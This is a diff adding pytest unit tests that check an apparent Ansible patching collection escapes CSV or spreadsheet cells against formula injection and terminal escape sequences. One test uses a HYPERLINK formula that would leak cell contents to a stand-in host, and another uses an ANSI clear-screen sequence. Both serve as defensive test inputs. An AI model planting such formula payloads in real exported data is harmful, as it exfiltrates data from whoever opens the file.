@@ -10,6 +10,7 @@ import io
 
 import pytest
 
+from ansible_collections.msp.patching.plugins.plugin_utils.packages import members
 from ansible_collections.msp.patching.plugins.plugin_utils.report import tabular
 from tests.unit.report.month import BETA, FORMULA, account
 
@@ -42,3 +43,15 @@ def test_what_a_spreadsheet_would_take_for_a_formula_is_text() -> None:
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1"])
 def test_each_beginning_of_a_formula_is_known(text: str) -> None:
     assert tabular._cell(text) == f"'{text}"
+
+
+def test_a_list_may_begin_one_too() -> None:
+    """In the report's tables and in those of a package, which are made by the same code."""
+    record = {"cves": ['=HYPERLINK("http://x/?"&A1,"y")', "CVE-2026-1"]}
+    assert tabular._cell(record["cves"]).startswith("'=HYPERLINK")
+    assert members._cell(record, "cves").startswith("'=HYPERLINK")
+    assert members._cell({"cves": ["CVE-2026-1", "CVE-2026-2"]}, "cves") == "CVE-2026-1, CVE-2026-2"
+
+
+def test_a_table_commands_no_terminal() -> None:
+    assert tabular._cell("\x1b[2J=1") == members._cell({"title": "\x1b[2J=1"}, "title") == "\ufffd[2J=1"
